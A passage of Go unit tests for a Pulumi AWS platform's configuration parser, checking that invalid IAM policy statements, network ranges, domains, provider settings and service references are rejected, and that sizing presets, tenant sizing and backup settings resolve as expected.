		{"a policy statement granting a whole service", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"policyStatements":[{"action":["sqs:*"],"resource":"arn:aws:sqs:ap-northeast-1:123456789012:q"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].action", `sqs:*`, "grants every action"},
		{"a policy action without its service", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"policyStatements":[{"action":"SendMessage","resource":"arn:aws:sqs:ap-northeast-1:123456789012:q"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].action", `SendMessage`, "service:Action"},
		{"every resource for an action that takes one", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"policyStatements":[{"action":"sqs:SendMessage","resource":"*"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].resource", `*`, "only allowed for actions that take no resource"},
		{"a policy statement without resources", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"policyStatements":[{"action":"sqs:SendMessage"}]}]`},
			"saas-platform:services[0] (service api).policyStatements[0].resource", ``, "is required"},
		{"sidecars that leave the app too little CPU", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"cpu":256,"memory":2048,"tracing":true,"metrics":"statsd"}]`},
			"saas-platform:services[0] (service api).cpu", `256`, "leaves 64 CPU units for the app after the tracing and metrics sidecars (192)"},
		{"a bucket name S3 refuses", "dev", map[string]string{"saas-platform:buckets": `[{"name":"Events_Log"}]`},
			"saas-platform:buckets[0].name", `Events_Log`, "lowercase letters"},
		{"a bucket name used twice", "dev", map[string]string{"saas-platform:buckets": `[{"name":"events"},{"name":"events"}]`},
			"saas-platform:buckets[1].name", `events`, "must be unique"},
		{"a negative expiry", "dev", map[string]string{"saas-platform:buckets": `[{"name":"events","expireAfterDays":-1}]`},
			"saas-platform:buckets[0].expireAfterDays", `-1`, "0 (never)"},
		{"an unknown cache parameter group", "dev", map[string]string{"saas-platform:cache": `{"mode":"nodes","parameterGroup":"mine"}`},
			"saas-platform:cache.parameterGroup", `mine`, "custom"},
		{"a zone that is not a DNS name", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"Example_COM"}`},
			"saas-platform:domain.zone", `Example_COM`, "Route 53 hosted zone"},
		{"a zone without a name", "dev", map[string]string{"saas-platform:domain": `{"zone":"example.com"}`},
			"saas-platform:domain.name", ``, "is required with domain.zone"},
		{"a name outside its zone", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.org","zone":"example.com"}`},
			"saas-platform:domain.name", `app.example.org`, "must be in domain.zone, example.com"},
		{"creating a zone without naming it", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","createZone":true}`},
			"saas-platform:domain.createZone", `true`, "needs domain.zone"},
		{"a host outside the domain", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:services": `[{"name":"admin","port":3000,"healthCheckPath":"/h","hosts":["admin.example.org"],"priority":5}]`},
			"saas-platform:services[0] (service admin).hosts", `admin.example.org`, "outside the environment's domain, example.com"},
		{"a host without a domain", "dev", map[string]string{"saas-platform:services": `[{"name":"admin","port":3000,"healthCheckPath":"/h","hosts":["admin.example.com"],"priority":5}]`},
			"saas-platform:services[0] (service admin).hosts", `admin.example.com`, "needs domain.name"},
		{"a host twice", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:services": `[{"name":"admin","port":3000,"healthCheckPath":"/h","hosts":["admin.example.com","admin.example.com"],"priority":5}]`},
			"saas-platform:services[0] (service admin).hosts", `admin.example.com`, "listed twice"},
		{"more than five hosts and paths together", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:services": `[{"name":"admin","port":3000,"healthCheckPath":"/h","hosts":["a.example.com","b.example.com","c.example.com"],"paths":["/x","/y","/z"],"priority":5}]`},
			"saas-platform:services[0] (service admin).paths", `/x,/y,/z,a.example.com,b.example.com,c.example.com`, "at most 5 condition values"},
		{"a host-routed service without a priority", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:services": `[{"name":"admin","port":3000,"healthCheckPath":"/h","hosts":["admin.example.com"]}]`},
			"saas-platform:services[0] (service admin).priority", `0`, "between 1 and 50000"},
		{"a service host that is the static assets' host", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:staticAssets": `{"host":"static.example.com"}`, "saas-platform:services": `[{"name":"admin","port":3000,"healthCheckPath":"/h","hosts":["static.example.com"],"priority":5}]`},
			"saas-platform:services[0] (service admin).hosts", `static.example.com`, "CloudFront answers"},
		{"static assets without a zone", "dev", map[string]string{"saas-platform:staticAssets": `{"host":"static.example.com"}`},
			"saas-platform:staticAssets.host", `static.example.com`, "needs domain.zone"},
		{"static assets at the load balancer's name", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:staticAssets": `{"host":"app.example.com"}`},
			"saas-platform:staticAssets.host", `app.example.com`, "a host of their own"},
		{"static assets outside the zone", "dev", map[string]string{"saas-platform:domain": `{"name":"app.example.com","zone":"example.com"}`, "saas-platform:staticAssets": `{"host":"static.example.org"}`},
			"saas-platform:staticAssets.host", `static.example.org`, "outside the environment's domain"},
		{"a price class CloudFront does not sell", "dev", map[string]string{"saas-platform:staticAssets": `{"priceClass":"PriceClass_50"}`},
			"saas-platform:staticAssets.priceClass", `PriceClass_50`, "PriceClass_100, PriceClass_200, PriceClass_All"},
		{"an allowed range that is not one", "dev", map[string]string{"saas-platform:loadBalancer": `{"allowedCidrs":["office"]}`},
			"saas-platform:loadBalancer.allowedCidrs[0]", `office`, "IPv4 range"},
		{"an allowed range with host bits", "dev", map[string]string{"saas-platform:loadBalancer": `{"allowedCidrs":["203.0.113.7/24"]}`},
			"saas-platform:loadBalancer.allowedCidrs[0]", `203.0.113.7/24`, "the range is 203.0.113.0/24"},
		{"no allowed range at all", "dev", map[string]string{"saas-platform:loadBalancer": `{"allowedCidrs":[]}`},
			"saas-platform:loadBalancer.allowedCidrs", `[]`, "at least one IPv4 range"},
		{"a misspelt provider key", "dev", map[string]string{"aws:allowedAccountId": `["123456789012"]`},
			"aws:allowedAccountId", "", "did you mean aws:allowedAccountIds?"},
		{"a provider key the provider does not have", "dev", map[string]string{"aws:role": "deploy"},
			"aws:role", "", "not a setting of the AWS provider"},
		{"an account id that is a number", "dev", map[string]string{"aws:allowedAccountIds": `[123456789012]`},
			"aws:allowedAccountIds[0]", "123456789012", `must be a string, not a number (quote it in YAML: "123456789012")`},
		{"an account id of eleven digits", "dev", map[string]string{"aws:allowedAccountIds": `["12345678901"]`},
			"aws:allowedAccountIds", "12345678901", "12-digit AWS account id"},
		{"allowed and forbidden accounts together", "dev", map[string]string{
			"aws:allowedAccountIds": `["123456789012"]`, "aws:forbiddenAccountIds": `["210987654321"]`},
			"aws:forbiddenAccountIds", "210987654321", "one or the other"},
		{"a provider flag that is not a boolean", "dev", map[string]string{"aws:skipCredentialsValidation": "yes"},
			"aws:skipCredentialsValidation", "yes", "true or false"},
		{"a retry count that is not a number", "dev", map[string]string{"aws:maxRetries": "many"},
			"aws:maxRetries", "many", "whole number"},
		{"a retry mode the SDK does not have", "dev", map[string]string{"aws:retryMode": "eager"},
			"aws:retryMode", "eager", "standard or adaptive"},
		{"an assumed role without its ARN", "dev", map[string]string{"aws:assumeRole": `{"sessionName":"deploy"}`},
			"aws:assumeRole.roleArn", "", "is required"},
		{"an assumed role ARN that is not a role", "dev", map[string]string{"aws:assumeRole": `{"roleArn":"arn:aws:iam::123456789012:user/ci"}`},
			"aws:assumeRole.roleArn", "arn:aws:iam::123456789012:user/ci", "IAM role ARN"},
		{"an assumed role for longer than STS allows", "dev", map[string]string{"aws:assumeRole": `{"roleArn":"arn:aws:iam::123456789012:role/deploy","duration":"24h"}`},
			"aws:assumeRole.duration", "24h", "between 15m and 12h"},
		{"a misspelt key inside assumeRole", "dev", map[string]string{"aws:assumeRole": `{"roleArm":"arn:aws:iam::123456789012:role/deploy"}`},
			"aws:assumeRole.roleArm", "", "did you mean roleArn?"},
		{"an endpoint for a service the provider does not know", "dev", map[string]string{"aws:endpoints": `[{"s4":"http://localhost:5000"}]`},
			"aws:endpoints[0].s4", "", "did you mean s3?): keys allowed in aws:endpoints[0] are accessanalyzer,"},
		{"an endpoint that is not a URL", "dev", map[string]string{"aws:endpoints": `[{"s3":"localhost:5000"}]`},
			"aws:endpoints[0].s3", "localhost:5000", "http or https URL"},
		{"a default tag that overwrites the program's", "dev", map[string]string{"aws:defaultTags": `{"tags":{"Environment":"production"}}`},
			"aws:defaultTags.tags.Environment", "production", "a tag the program sets itself"},
		{"a scheduled task with paths", "dev", map[string]string{"saas-platform:services": `[{"name":"update","schedule":"rate(15 minutes)","port":3000,"paths":["/u"],"priority":5,"healthCheckPath":"/h"}]`},
			"saas-platform:services[0] (service update).paths", "/u", "scheduled task"},
		{"an allowed range inside the stack's own network", "dev", map[string]string{"saas-platform:network": `{"cidr":"10.10.0.0/16"}`, "saas-platform:loadBalancer": `{"allowedCidrs":["10.10.4.0/24"]}`},
			"saas-platform:loadBalancer.allowedCidrs[0]", "10.10.4.0/24", "inside the stack's own network (10.10.0.0/16): the load balancer never admits the VPC"},
		{"more allowed ranges than the load balancer's group holds", "dev", map[string]string{"saas-platform:network": `{"cidr":"10.10.0.0/24"}`,
			"saas-platform:loadBalancer": `{"allowedCidrs":["0.0.0.0/0","203.0.113.1/32","203.0.113.2/32","203.0.113.3/32","203.0.113.4/32","203.0.113.5/32","203.0.113.6/32","203.0.113.7/32"]}`},
			"saas-platform:loadBalancer.allowedCidrs", "0.0.0.0/0,203.0.113.1/32,203.0.113.2/32,203.0.113.3/32,203.0.113.4/32,203.0.113.5/32,203.0.113.6/32,203.0.113.7/32",
			"become 31 ranges once the VPC's own range is taken out: at most 30"},
		{"a call to a service the stack does not have", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"calls":["billing"]}]`},
			"saas-platform:services[0] (service api).calls[0]", "billing", "not a service of this stack: one of api"},
		{"a call to a scheduled task", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"calls":["update"]},{"name":"update","schedule":"rate(1 hour)"}]`},
			"saas-platform:services[0] (service api).calls[0]", "update", "scheduled task: it takes no calls"},
		{"a call listed twice", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"calls":["worker","worker"]},{"name":"worker","port":3001}]`},
			"saas-platform:services[0] (service api).calls[1]", "worker", "listed twice"},
		{"a data store the stack does not have", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"uses":["postgres"]}]`},
			"saas-platform:services[0] (service api).uses[0]", "postgres", "one of cache, database"},
		{"a data store listed twice", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"uses":["cache","cache"]}]`},
			"saas-platform:services[0] (service api).uses[1]", "cache", "listed twice"},
		{"a data store named in another case", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"uses":["Database"]}]`},
			"saas-platform:services[0] (service api).uses[0]", "Database", "one of cache, database"},
		{"the URL of a scheduled task", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"JOB":"${services.update.url}"}},{"name":"update","schedule":"rate(1 hour)"}]`},
			"saas-platform:services[0] (service api).environment.JOB", "${services.update.url}", "scheduled task: it takes no calls and has no URL"},
		{"the public URL of a service that is not routed", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"W":"${services.worker.publicUrl}"}},{"name":"worker","port":3001}]`},
			"saas-platform:services[0] (service api).environment.W", "${services.worker.publicUrl}", "not routed (no paths or hosts): it has no public URL; use ${services.worker.url}"},
		{"an address a service does not have", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"W":"${services.worker.host}"}},{"name":"worker","port":3001}]`},
			"saas-platform:services[0] (service api).environment.W", "${services.worker.host}", "not an address of service worker"},
		{"the URL of a service the stack does not have", "dev", map[string]string{"saas-platform:services": `[{"name":"api","port":3000,"environment":{"W":"${services.billing.url}"}}]`},
			"saas-platform:services[0] (service api).environment.W", "${services.billing.url}", "not a known reference"},
	}
	for _, tc := range cases {
		t.Run("rejects "+tc.name, func(t *testing.T) {
			_, err := config.Parse(project, tc.stack, values(tc.values))
			p := oneProblem(t, err)
			assert.Equal(t, tc.key, p.Key)
			assert.Equal(t, tc.value, p.Value)
			assert.Contains(t, p.Allowed, tc.allowed)
			assert.Contains(t, err.Error(), tc.key)
		})
	}
}

func TestEveryProblemIsReportedInOneError(t *testing.T) {
	_, err := config.Parse(project, "dev", values(map[string]string{
		"saas-platform:network": `{"cidr":"8.8.0.0/16","natGateways":"many"}`,
		"saas-platform:tenants": `[{"id":"acme","plan":"gold"}]`,
	}))
	var cfgErr *config.Error
	require.True(t, errors.As(err, &cfgErr))
	assert.Len(t, cfgErr.Problems, 3)
	assert.Contains(t, err.Error(), "3 problems")
}

func TestAStackWithOnlyASizingGetsThePreset(t *testing.T) {
	cases := []struct {
		sizing                       string
		zones                        int
		nat                          string
		endpoints, flowLogs, protect bool
		dbClass                      string
		multiAz                      bool
		cacheShards, cacheReplicas   int
		retention                    int
		capacity                     string
	}{
		{"dev", 2, config.NatInstance, false, false, false, "db.t4g.micro", false, 1, 1, 7, config.CapacitySpot},
		{"prod", 3, config.NatOnePerAz, true, true, true, "db.r6g.large", true, 3, 1, 90, config.CapacityBalanced},
	}
	for _, tc := range cases {
		t.Run(tc.sizing, func(t *testing.T) {
			v := values(map[string]string{"saas-platform:sizing": tc.sizing})
			if tc.sizing == "prod" {
				v["saas-platform:domain"] = `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`
			}
			s, err := config.Parse(project, tc.sizing, v)
			require.NoError(t, err)
			assert.Equal(t, tc.zones, s.Network.AvailabilityZones)
			assert.Equal(t, tc.nat, s.Network.NatGateways)
			assert.Equal(t, tc.endpoints, s.Network.InterfaceEndpoints)
			assert.Equal(t, tc.flowLogs, s.Network.FlowLogs)
			assert.Equal(t, tc.protect, s.DataProtection.Protect)
			assert.Equal(t, tc.dbClass, s.Database.InstanceClass)
			assert.Equal(t, tc.multiAz, s.Database.MultiAz)
			assert.True(t, s.Cache.ClusterMode, "one Redis client configuration works in every preset")
			assert.Equal(t, tc.cacheShards, s.Cache.Shards)
			assert.Equal(t, tc.cacheReplicas, s.Cache.ReplicasPerShard)
			assert.Equal(t, tc.retention, s.Logs.RetentionDays)
			assert.Equal(t, tc.capacity, s.Compute.Capacity)
		})
	}
}

func TestStackFileValuesOverrideOnlyTheKeysTheyName(t *testing.T) {
	s, err := config.Parse(project, "dev", values(map[string]string{
		"saas-platform:network":  `{"availabilityZones":3}`,
		"saas-platform:database": `{"multiAz":true}`,
	}))
	require.NoError(t, err)
	assert.Equal(t, 3, s.Network.AvailabilityZones)
	assert.Equal(t, "10.10.0.0/16", s.Network.CIDR, "the preset's cidr stays")
	assert.Equal(t, config.NatInstance, s.Network.NatGateways)
	assert.True(t, s.Database.MultiAz)
	assert.Equal(t, "db.t4g.micro", s.Database.InstanceClass, "the preset's class stays")
}

func TestSubnetLayoutLeavesRoomForMoreZonesWhenTheNetworkAllows(t *testing.T) {
	cases := []struct {
		cidr  string
		zones int
		want  config.SubnetLayout
	}{
		{"10.10.0.0/16", 2, config.SubnetLayout{AvailabilityZoneMask: 19, PrivateMask: 20, PublicMask: 21, IsolatedMask: 22}},
		{"10.10.0.0/16", 6, config.SubnetLayout{AvailabilityZoneMask: 19, PrivateMask: 20, PublicMask: 21, IsolatedMask: 22}},
		{"10.10.0.0/22", 3, config.SubnetLayout{AvailabilityZoneMask: 25, PrivateMask: 26, PublicMask: 27, IsolatedMask: 28}},
		// Too small for eight zone blocks: sized to the zones asked for.
		{"10.10.0.0/24", 2, config.SubnetLayout{AvailabilityZoneMask: 25, PrivateMask: 26, PublicMask: 27, IsolatedMask: 28}},
	}
	for _, tc := range cases {
		t.Run(tc.cidr, func(t *testing.T) {
			s, err := config.Parse(project, "dev", values(map[string]string{
				"saas-platform:network": `{"cidr":"` + tc.cidr + `","availabilityZones":` + strconv.Itoa(tc.zones) + `}`,
			}))
			require.NoError(t, err)
			assert.Equal(t, tc.want, s.Network.Subnets)
		})
	}
}

func TestServicesTakeTheirDefaultsFromThePreset(t *testing.T) {
	services := `[
		{"name":"api","port":3000,"healthCheckPath":"/api/health","paths":["/api/*"],"priority":200},
		{"name":"worker","port":3003,"capacity":"onDemand","maxCount":6},
		{"name":"update","schedule":"rate(15 minutes)"}
	]`
	cases := []struct {
		sizing     string
		api        config.Service
		workerMax  int
		autoscaled bool
	}{
		{"dev", config.Service{Capacity: config.CapacitySpot, DesiredCount: 1, MinCount: 1, MaxCount: 1, CPU: 256, Memory: 512}, 6, false},
		{"prod", config.Service{Capacity: config.CapacityBalanced, DesiredCount: 2, MinCount: 2, MaxCount: 8, CPU: 256, Memory: 512}, 6, true},
	}
	for _, tc := range cases {
		t.Run(tc.sizing, func(t *testing.T) {
			v := values(map[string]string{"saas-platform:sizing": tc.sizing, "saas-platform:services": services})
			v["saas-platform:loadBalancer"] = `{"requireHttps":false}`
			s, err := config.Parse(project, tc.sizing, v)
			require.NoError(t, err)
			require.Len(t, s.Services, 3)
			api := s.Services[0]
			assert.Equal(t, tc.api.Capacity, api.Capacity)
			assert.Equal(t, tc.api.DesiredCount, api.DesiredCount)
			assert.Equal(t, tc.api.MinCount, api.MinCount)
			assert.Equal(t, tc.api.MaxCount, api.MaxCount)
			assert.Equal(t, tc.api.CPU, api.CPU)
			assert.Equal(t, tc.api.Memory, api.Memory)
			assert.Equal(t, tc.autoscaled, api.Autoscaled())
			assert.True(t, api.Routed())

			worker := s.Services[1]
			assert.Equal(t, config.CapacityOnDemand, worker.Capacity, "a service may override the preset's capacity")
			assert.Equal(t, tc.workerMax, worker.MaxCount)
			assert.False(t, worker.Routed())

			update := s.Services[2]
			assert.True(t, update.Scheduled())
			assert.False(t, update.Autoscaled(), "a scheduled task never autoscales")
		})
	}
}

func TestTenantsAreSizedByTheirPlanWithinThePresetsCap(t *testing.T) {
	tenants := `[{"id":"acme","plan":"enterprise"},{"id":"umbrella","plan":"premium"},{"id":"globex","plan":"free"},{"id":"initech","plan":"basic"}]`
	cases := []struct {
		sizing string
		want   map[string]config.SiloDatabase
	}{
		{"dev", map[string]config.SiloDatabase{
			"acme":     {InstanceClass: "db.t4g.micro", AllocatedStorage: 20, MaxAllocatedStorage: 100, MultiAz: false, BackupRetentionDays: 14},
			"umbrella": {InstanceClass: "db.t4g.micro", AllocatedStorage: 20, MaxAllocatedStorage: 100, MultiAz: false, BackupRetentionDays: 7},
			"globex":   {},
			"initech":  {},
		}},
		{"prod", map[string]config.SiloDatabase{
			"acme":     {InstanceClass: "db.r6g.large", AllocatedStorage: 500, MaxAllocatedStorage: 2000, MultiAz: true, BackupRetentionDays: 14},
			"umbrella": {InstanceClass: "db.t4g.medium", AllocatedStorage: 100, MaxAllocatedStorage: 500, MultiAz: false, BackupRetentionDays: 7},
			"globex":   {},
			"initech":  {},
		}},
	}
	for _, tc := range cases {
		t.Run(tc.sizing, func(t *testing.T) {
			v := values(map[string]string{"saas-platform:sizing": tc.sizing, "saas-platform:tenants": tenants})
			v["saas-platform:loadBalancer"] = `{"requireHttps":false}`
			s, err := config.Parse(project, tc.sizing, v)
			require.NoError(t, err)
			got := map[string]config.SiloDatabase{}
			isolation := map[string]config.Isolation{}
			for _, tenant := range s.Tenants {
				got[tenant.ID] = tenant.Database
				isolation[tenant.ID] = tenant.Plan.Isolation
			}
			assert.Equal(t, tc.want, got)
			assert.Equal(t, map[string]config.Isolation{"acme": config.Silo, "umbrella": config.Silo, "globex": config.Pool, "initech": config.Pool}, isolation)
		})
	}
}

func TestProdCopiesBackupsToAnotherRegionKeepsMonthliesFiveYearsAndTestsRestores(t *testing.T) {
	cases := []struct {
		sizing  string
		want    config.DataProtection
		drOn    bool
		overlay map[string]string
	}{
		{"dev", config.DataProtection{MonthlyRetentionDays: 365}, false, nil},
		{"prod", config.DataProtection{Protect: true, BackupPlan: true, DRRegion: "us-west-2", MonthlyRetentionDays: 1825, RestoreTesting: true}, true,
			map[string]string{"saas-platform:domain": `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`}},
		{"prod", config.DataProtection{Protect: true, BackupPlan: true, DRRegion: "", MonthlyRetentionDays: 3650, RestoreTesting: true}, false,
			map[string]string{
				"saas-platform:domain":         `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`,
				"saas-platform:dataProtection": `{"drRegion":"","monthlyRetentionDays":3650}`,
			}},
	}
	for _, tc := range cases {
		t.Run(tc.sizing, func(t *testing.T) {
			v := values(map[string]string{"saas-platform:sizing": tc.sizing})
			for k, val := range tc.overlay {
				v[k] = val
			}
			s, err := config.Parse(project, tc.sizing, v)
			require.NoError(t, err)
			assert.Equal(t, tc.want, s.DataProtection)
			assert.Equal(t, tc.drOn, s.DataProtection.DR())
		})
	}
}

func TestThePreviousDeploymentIsReadFromItsOutputs(t *testing.T) {
	deployed, err := config.DeployedFrom(map[string]any{
		"acme":   map[string]any{"plan": "premium", "isolation": "silo", "allocatedStorage": 100.0, "onRemove": "drop", "host": "x"},
		"globex": map[string]any{"plan": "free", "isolation": "pool", "allocatedStorage": 0.0},
	}, true, nil)
	require.NoError(t, err)
	assert.Equal(t, map[string]config.DeployedTenant{
		"acme":   {Plan: "premium", Isolation: config.Silo, AllocatedStorage: 100, OnRemove: "drop"},
		"globex": {Plan: "free", Isolation: config.Pool, Pool: config.SharedPool},
	}, deployed.Tenants, "a pool tenant deployed before pools is in the shared instance")
	require.NotNil(t, deployed.CacheClusterMode)
	assert.True(t, *deployed.CacheClusterMode)
	assert.Equal(t, config.CacheModeNodes, deployed.CacheMode, "a deployment from before cache modes ran nodes")

	serverless, err := config.DeployedFrom(nil, true, "serverless")
	require.NoError(t, err)
	assert.Equal(t, config.CacheModeServerless, serverless.CacheMode)

	first, err := config.DeployedFrom(nil, nil, nil)
	require.NoError(t, err)
	assert.Empty(t, first.Tenants)
	assert.Nil(t, first.CacheClusterMode)

	_, err = config.DeployedFrom([]any{"acme"}, nil, nil)
	assert.ErrorContains(t, err, "not a tenant map")
}

func TestReadStackFileGivesValuesAsTheEngineWould(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "Pulumi.test.yaml")
	require.NoError(t, os.WriteFile(path, []byte(`config:
  aws:region: eu-west-1
  sizing: dev
  saas-platform:network: {availabilityZones: 3, flowLogs: true}
  saas-platform:tenants:
    - {id: acme, plan: free}
  saas-platform:imageTag:
    secure: v1:AAAABBBB
`), 0o600))

	sf, err := config.ReadStackFile(path, project)
	require.NoError(t, err)
	assert.Equal(t, "eu-west-1", sf.Values["aws:region"])
	assert.Equal(t, "dev", sf.Values["saas-platform:sizing"], "an unqualified key belongs to the project")
	assert.JSONEq(t, `{"availabilityZones":3,"flowLogs":true}`, sf.Values["saas-platform:network"])
	assert.JSONEq(t, `[{"id":"acme","plan":"free"}]`, sf.Values["saas-platform:tenants"])
	assert.Equal(t, config.SecretPlaceholder, sf.Values["saas-platform:imageTag"])
	assert.Equal(t, []string{"saas-platform:imageTag"}, sf.SecretKeys)
}

func TestTheEnginesConfigurationKeysAreReadFromItsVariable(t *testing.T) {
	t.Setenv("PULUMI_CONFIG", `{"aws:region":"ap-northeast-1","aws:allowedAccountId":"[]","saas-platform:sizing":"dev"}`)
	keys, err := config.EngineKeys()
	require.NoError(t, err)
	assert.Equal(t, []string{"aws:allowedAccountId", "aws:region", "saas-platform:sizing"}, keys)

	t.Setenv("PULUMI_CONFIG", `not json`)
	_, err = config.EngineKeys()
	assert.ErrorContains(t, err, "PULUMI_CONFIG")
}

func TestProviderSettingsKeepSecretsSecretAndOutOfMessages(t *testing.T) {
	v := values(map[string]string{
		"aws:secretKey":  "wJalrXUtnFEMI",
		"aws:maxRetries": "s3cr3t-not-a-number",
		"aws:profile":    "deploy",
	})
	_, err := config.ParseSecret(project, "dev", v, []string{"aws:maxRetries"})
	require.Error(t, err)
	assert.NotContains(t, err.Error(), "s3cr3t", "a secret's value never appears in a message")
	assert.Contains(t, err.Error(), "aws:maxRetries")

	delete(v, "aws:maxRetries")
	s, err := config.ParseSecret(project, "dev", v, []string{"aws:secretKey"})
	require.NoError(t, err)
	assert.Equal(t, []string{"profile", "secretKey"}, s.Provider.Keys())
	assert.True(t, s.Provider.Secret["secretKey"])
	assert.False(t, s.Provider.Secret["profile"])
}

func TestTheStacksTagsAreTheProgramsAndTheStackFilesDefaultTags(t *testing.T) {
	s, err := config.Parse(project, "dev", values(map[string]string{"aws:defaultTags": `{"tags":{"CostCenter":"42"}}`}))
	require.NoError(t, err)
	assert.Equal(t, map[string]string{
		"Project": "saas-platform", "Environment": "dev", "ManagedBy": "pulumi", "CostCenter": "42",
	}, s.Tags())
}

func TestEveryProviderKeyTheIssueNamesIsAKeyOfThePinnedProvider(t *testing.T) {
	for _, key := range []string{
		"profile", "assumeRole", "allowedAccountIds", "forbiddenAccountIds", "endpoints",
		"sharedConfigFiles", "sharedCredentialsFiles", "skipCredentialsValidation",
		"skipRequestingAccountId", "skipMetadataApiCheck", "s3UsePathStyle", "maxRetries",
		"retryMode", "insecure", "customCaBundle", "stsRegion", "defaultTags",
	} {
		assert.Contains(t, config.ProviderKeys(), key)
	}
}

func TestServicesResolveTheirWorkloadKeys(t *testing.T) {
	s, err := config.Parse(project, "prod", values(map[string]string{
		"saas-platform:sizing":  "prod",
		"saas-platform:domain":  `{"certificateArn":"arn:aws:acm:ap-northeast-1:123456789012:certificate/abc"}`,
		"saas-platform:buckets": `[{"name":"events","versioned":true,"expireAfterDays":365}]`,
		"saas-platform:services": `[
			{"name":"api","port":3000,"cpu":512,"memory":1024,"imageTag":"3f2a1bc","architecture":"arm64",
			 "environment":{"LOG_LEVEL":"info","RETRIES":3,"REDIS_HOST":"${cache.host}","EVENTS":"s3://${buckets.events}/in"},
			 "secrets":{"JWT_SECRET":{"generate":true},"STRIPE_KEY":{"secret":"arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:stripe-AbCdEf","key":"apiKey"}},
			 "access":[{"bucket":"events"},{"sendEmail":{"from":"noreply@example.com"}}],
			 "metrics":"statsd","stopTimeout":120},
			{"name":"dashboard","image":"public.ecr.aws/nginx/nginx:1.27","port":80,"tracing":false},
			{"name":"update","schedule":"rate(1 hour)"}]`,
	}))
	require.NoError(t, err)
	api, dashboard, update := s.Services[0], s.Services[1], s.Services[2]

	assert.Equal(t, "3f2a1bc", api.ImageTag, "a service's own tag wins")
	assert.Equal(t, "dev-abc1234", update.ImageTag, "the stack's tag otherwise")
	assert.Empty(t, dashboard.ImageTag, "an image names its own tag")
	assert.Equal(t, config.Environment{"LOG_LEVEL": "info", "RETRIES": "3", "REDIS_HOST": "${cache.host}", "EVENTS": "s3://${buckets.events}/in"},
		api.Environment, "numbers are read as text; the platform's own reference is allowed")
	assert.Equal(t, []string{"buckets.events"}, config.References(api.Environment["EVENTS"]))
	assert.Equal(t, config.AccessRead, api.Access[0].Mode, "a bucket grant reads unless it says more")
	assert.True(t, api.Tracing, "the prod preset traces")
	assert.False(t, dashboard.Tracing, "unless the service opts out")
	assert.Equal(t, 120, api.StopTimeout)
	assert.Equal(t, 30, api.DeregistrationDelay)
	assert.Equal(t, config.ArchitectureARM, api.Architecture)
	assert.Equal(t, config.ArchitectureX86, dashboard.Architecture)
	assert.Equal(t, 1, update.DesiredCount, "a scheduled task runs one task per run")
	assert.True(t, s.Compute.WaitForSteadyState)

	cpu, memory, sidecars := api.SidecarReservation()
	assert.Equal(t, config.TracingSidecarCPU+config.MetricsSidecarCPU, cpu)
	assert.Equal(t, config.TracingSidecarMemory+config.MetricsSidecarMemory, memory)
	assert.Equal(t, []string{"tracing", "metrics"}, sidecars)
}

func TestAPolicyStatementMayUseEveryResourceOnlyForActionsThatTakeNone(t *testing.T) {
	_, err := config.Parse(project, "dev", values(map[string]string{"saas-platform:services": `[{"name":"api","port":3000,
		"policyStatements":[{"action":["cloudwatch:PutMetricData"],"resource":"*","condition":{"StringEquals":{"cloudwatch:namespace":"app"}}},
		                    {"effect":"Allow","action":"sqs:SendMessage","resource":["arn:aws:sqs:ap-northeast-1:123456789012:jobs"]}]}]`}))
	assert.NoError(t, err)
}

func TestAStackFilesListsNeverChangeThePresetOfTheNextStack(t *testing.T) {
	_, err := config.Parse(project, "dev", values(map[string]string{"saas-platform:loadBalancer": `{"allowedCidrs":["198.51.100.0/24"]}`}))
	require.NoError(t, err)
	s, err := config.Parse(project, "dev", values(nil))
	require.NoError(t, err)
	assert.Equal(t, []string{"0.0.0.0/0"}, s.LoadBalancer.AllowedCidrs)
}

func TestACacheReplacementIsAnExplicitStepAndNeverInAProtectedStack(t *testing.T) {
	off, on := false, true
	cases := []struct {
		name         string
		sizing       string
		cache        string
		deployed     *bool
		deployedMode string
		key          string
		allowed      string
	}{
		{"dev's nodes moving to cluster mode without accepting the replacement", "dev", `{"mode":"nodes"}`, &off, "",
			"saas-platform:cache.clusterMode", "set saas-platform:cache.acceptReplacement: true for this deployment"},
		{"dev's nodes moving to cluster mode, the replacement accepted", "dev", `{"mode":"nodes","acceptReplacement":true}`, &off, "", "", ""},
		{"a first deployment that accepts a replacement", "dev", `{"acceptReplacement":true}`, nil, "", "", ""},
		{"an acceptance left behind once the cache is replaced", "dev", `{"acceptReplacement":true}`, &on, "serverless",
			"saas-platform:cache.acceptReplacement", "has nothing to accept"},
